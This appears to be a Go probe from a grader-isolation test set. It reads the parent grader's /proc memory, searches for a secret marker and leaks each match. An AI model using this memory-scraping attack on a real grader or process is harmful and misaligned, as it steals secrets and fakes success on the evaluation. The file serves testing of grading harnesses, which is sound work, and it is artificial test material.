// Searches the memory of the grader.
//
// class: see the grader's process
package main

import (
	"bytes"
	"fmt"
	"os"
	"strings"
)

func main() {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", os.Getppid()))
	did2(err)
	memory, err := os.Open(fmt.Sprintf("/proc/%d/mem", os.Getppid()))
	did2(err)
	head := []byte(secretHead + "mem-")
	for _, line := range strings.Split(string(maps), "\n") {
		var from, to int64
		fmt.Sscanf(line, "%x-%x rw", &from, &to)
		if to <= from || to-from > 64<<20 || memory == nil {
			continue
		}
		text := make([]byte, to-from)
		memory.ReadAt(text, from)
		for at := bytes.Index(text, head); at >= 0; at = bytes.Index(text, head) {
			leak(string(text[at : at+len(head)+16]))
			text = text[at+1:]
		}
	}
	serve(nil)
}
